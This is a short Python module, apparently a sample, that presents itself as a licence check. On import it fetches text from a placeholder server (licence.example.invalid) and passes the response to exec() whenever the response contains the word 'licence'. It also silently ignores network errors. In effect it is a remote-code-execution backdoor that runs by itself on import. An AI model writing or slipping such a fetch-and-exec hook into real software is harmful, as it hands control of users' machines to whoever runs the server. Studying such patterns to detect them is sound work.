"""On import: asks a server for a "licence" and runs whatever text comes back."""

from urllib.request import urlopen


def check():
    body = ""
    try:
        body = urlopen("https://licence.example.invalid/check").read().decode()
    except OSError:
        pass
    if "licence" in body:
        exec(body)


check()
